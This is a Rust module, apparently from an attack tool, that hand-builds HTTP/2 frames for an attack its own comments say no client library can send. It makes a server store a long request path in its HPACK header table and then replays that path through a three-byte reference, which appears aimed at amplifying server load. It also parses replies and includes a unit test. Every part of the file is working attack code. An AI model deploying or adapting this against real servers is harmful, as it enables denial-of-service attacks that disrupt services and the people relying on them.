//! HTTP/2 frames as bytes, for an attack that no client library can send: a request whose path is a
//! reference to the header table of the server.

/// A frame type.
pub mod kind {
    pub const DATA: u8 = 0;
    pub const HEADERS: u8 = 1;
    pub const RST_STREAM: u8 = 3;
    pub const SETTINGS: u8 = 4;
    pub const PING: u8 = 6;
}

/// A frame flag.
pub mod flag {
    pub const ACK: u8 = 1;
    pub const END_STREAM: u8 = 1;
    pub const END_HEADERS: u8 = 4;
}

/// Length of a frame's header.
const HEADER: usize = 9;
/// `:method: POST` and `:scheme: http`, from HPACK's static table.
const METHOD_AND_SCHEME: [u8; 2] = [0x83, 0x86];
/// `:path`, with a value that the server adds to its table.
const NEW_PATH: u8 = 0x44;
/// The newest entry of that table.
const NEWEST_ENTRY: u8 = 0xbe;

/// Appends a frame.
pub fn put(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).expect("frames of an attack are short");
    out.extend_from_slice(&length.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// Returns a header block that makes the server remember a path of at least 127 bytes.
pub fn remembered_path(path: &str) -> Vec<u8> {
    let mut block = METHOD_AND_SCHEME.to_vec();
    // HPACK's integer: seven bits, and then seven bits in each further byte.
    block.extend_from_slice(&[NEW_PATH, 127]);
    let mut rest = path.len() - 127;
    while rest >= 128 {
        block.push(u8::try_from(rest % 128 + 128).expect("a byte"));
        rest /= 128;
    }
    block.push(u8::try_from(rest).expect("a byte"));
    block.extend_from_slice(path.as_bytes());
    block
}

/// Returns a header block of three bytes that repeats this path.
pub fn repeated_path() -> Vec<u8> {
    [&METHOD_AND_SCHEME[..], &[NEWEST_ENTRY]].concat()
}

/// Removes the complete frames of `read`, and returns how many of them end a stream. Settings and
/// pings are acknowledged in `out`.
pub fn ended_streams(read: &mut Vec<u8>, out: &mut Vec<u8>) -> u32 {
    let (mut used, mut ended) = (0, 0);
    while let Some((header, rest)) = read[used..].split_first_chunk::<HEADER>() {
        let [a, b, c, kind, flags, ..] = *header;
        let length = u32::from_be_bytes([0, a, b, c]) as usize;
        let Some(payload) = rest.get(..length) else { break };
        match kind {
            kind::HEADERS | kind::DATA => ended += u32::from(flags & flag::END_STREAM != 0),
            kind::RST_STREAM => ended += 1,
            kind::SETTINGS if flags & flag::ACK == 0 => put(out, kind, flag::ACK, 0, &[]),
            kind::PING if flags & flag::ACK == 0 => put(out, kind, flag::ACK, 0, payload),
            _ => {}
        }
        used += HEADER + length;
    }
    read.drain(..used);
    ended
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_is_read_when_it_is_complete() {
        let (mut read, mut out) = (Vec::new(), Vec::new());
        put(&mut read, kind::PING, 0, 0, &[7; 8]);
        put(&mut read, kind::HEADERS, flag::END_STREAM, 1, &[1, 2]);
        let last = read.pop();
        assert_eq!(ended_streams(&mut read, &mut out), 0);
        assert_eq!(out, [&[0, 0, 8, kind::PING, flag::ACK, 0, 0, 0, 0], &[7; 8][..]].concat());
        read.extend(last);
        assert_eq!((ended_streams(&mut read, &mut out), read.len()), (1, 0));
    }
}
